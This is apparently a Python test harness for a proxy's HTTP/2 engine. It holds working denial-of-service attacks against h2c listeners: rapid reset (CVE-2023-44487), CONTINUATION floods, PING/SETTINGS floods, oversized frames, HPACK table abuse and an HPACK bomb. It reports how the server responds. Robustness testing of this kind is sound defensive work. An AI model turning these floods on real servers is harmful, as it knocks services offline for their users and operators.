#!/usr/bin/python3
"""HTTP/2 floods against an h2c (prior knowledge) listener, for engine/tests/proxy.rs.

    attack.py HOST:PORT MODE AUTHORITY

rapid-reset: HEADERS immediately followed by RST_STREAM(CANCEL), 5,000 times as
fast as the socket takes them (CVE-2023-44487). continuation: one HEADERS without
END_HEADERS, then CONTINUATION frames of junk header bytes, up to 4 MiB
(CVE-2024-27316 family). ping-flood / settings-flood: 200,000 PING or SETTINGS
frames, never reading the acknowledgements (CVE-2019-9512 / 9515): the server must
not queue them without bound. oversized-frame: a HEADERS frame above the 16 KiB
SETTINGS_MAX_FRAME_SIZE. hpack-table: a dynamic table size update above the
4 KiB table the server allows. hpack-bomb: one large header put in the dynamic
table, then referenced 2,000 times in one header block (an HPACK bomb of 8 MB
decoded from 4 KB sent).

Then reads what the server sends until it closes or 10 s pass, and prints one
line: `goaway <error code>` or `closed` or `open`, plus the number of bytes sent
(`stalled` after it when the server stopped reading: TCP backpressure). Debian's
python3-hyperframe and python3-hpack only.
"""
import socket
import sys
import time

from hpack import Encoder
from hyperframe.frame import (ContinuationFrame, Frame, GoAwayFrame, HeadersFrame,
                              PingFrame, RstStreamFrame, SettingsFrame)

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"


def main():
    host, port = sys.argv[1].rsplit(":", 1)
    mode, authority = sys.argv[2], sys.argv[3]
    s = socket.create_connection((host, int(port)), timeout=10)
    s.sendall(PREFACE + SettingsFrame(0).serialize())
    enc = Encoder()
    block = enc.encode([(":method", "GET"), (":scheme", "http"),
                        (":authority", authority), (":path", "/")])
    sent = 0
    stalled = False
    try:
        if mode in ("ping-flood", "settings-flood"):
            # Never read: the acknowledgements pile up on the server's side unless
            # it stops reading. A send that blocks for 2 s is the server's
            # backpressure.
            s.settimeout(2)
            if mode == "ping-flood":
                frame = PingFrame(0)
                frame.opaque_data = b"12345678"
            else:
                frame = SettingsFrame(0)
                frame.settings = {SettingsFrame.INITIAL_WINDOW_SIZE: 65535}
            one = frame.serialize()
            batch = one * 1000
            try:
                for _ in range(200):
                    s.sendall(batch)
                    sent += len(batch)
            except socket.timeout:
                stalled = True
            s.settimeout(10)
        elif mode == "oversized-frame":
            # 20,000 bytes of payload (their content never matters: the frame's
            # length alone is over the limit).
            h = HeadersFrame(1)
            h.data = block + b"\x00" * 20000
            h.flags.add("END_HEADERS")
            out = h.serialize()
            s.sendall(out)
            sent += len(out)
        elif mode == "hpack-table":
            # A dynamic table size update (001xxxxx) to 1 MiB, as the first
            # instruction of a header block.
            update = bytes([0x3f]) + encode_int(1 << 20, 5)
            h = HeadersFrame(1)
            h.data = update + block
            h.flags.add("END_HEADERS")
            h.flags.add("END_STREAM")
            out = h.serialize()
            s.sendall(out)
            sent += len(out)
        elif mode == "hpack-bomb":
            # Literal with incremental indexing of a 4,000-byte value (it becomes
            # dynamic entry 62), then 2,000 one-byte references to it.
            big = ("x-bomb", "b" * 4000)
            first = enc.encode([big])
            h = HeadersFrame(1)
            h.data = block + first + bytes([0x80 | 62]) * 2000
            h.flags.add("END_HEADERS")
            h.flags.add("END_STREAM")
            out = h.serialize()
            s.sendall(out)
            sent += len(out)
        elif mode == "rapid-reset":
            out = bytearray()
            for i in range(5000):
                sid = 1 + 2 * i
                h = HeadersFrame(sid)
                h.data = block
                h.flags.add("END_HEADERS")
                h.flags.add("END_STREAM")
                r = RstStreamFrame(sid)
                r.error_code = 8  # CANCEL
                out += h.serialize() + r.serialize()
                if len(out) > 65536:
                    s.sendall(out)
                    sent += len(out)
                    out = bytearray()
            s.sendall(out)
            sent += len(out)
        elif mode == "continuation":
            h = HeadersFrame(1)
            h.data = block
            s.sendall(h.serialize())
            junk = Encoder().encode([("x-junk", "a" * 8000)])
            deadline = time.time() + 10
            while sent < 4 * 1024 * 1024 and time.time() < deadline:
                c = ContinuationFrame(1)
                c.data = junk
                s.sendall(c.serialize())
                sent += len(junk) + 9
        else:
            raise SystemExit(f"unknown mode {mode}")
    except (BrokenPipeError, ConnectionResetError):
        pass
    # What did the server say?
    buf = b""
    # A flood the server absorbs leaves the connection open: 2 s tell that.
    deadline = time.time() + (2 if mode.endswith("-flood") else 10)
    s.settimeout(0.5)
    verdict = "open"
    while time.time() < deadline:
        try:
            chunk = s.recv(65536)
        except socket.timeout:
            continue
        except ConnectionResetError:
            verdict = "closed"
            break
        if not chunk:
            verdict = "closed"
            break
        buf += chunk
        while len(buf) >= 9:
            frame, length = Frame.parse_frame_header(memoryview(buf[:9]))
            if len(buf) < 9 + length:
                break
            frame.parse_body(memoryview(buf[9:9 + length]))
            buf = buf[9 + length:]
            if isinstance(frame, GoAwayFrame):
                verdict = f"goaway {frame.error_code}"
        if verdict.startswith("goaway"):
            break
    print(verdict, sent, "stalled" if stalled else "")


def encode_int(value, prefix_bits):
    """The continuation bytes of an HPACK integer whose prefix is all ones."""
    value -= (1 << prefix_bits) - 1
    out = bytearray()
    while value >= 128:
        out.append((value & 0x7f) | 0x80)
        value >>= 7
    out.append(value)
    return bytes(out)


if __name__ == "__main__":
    main()
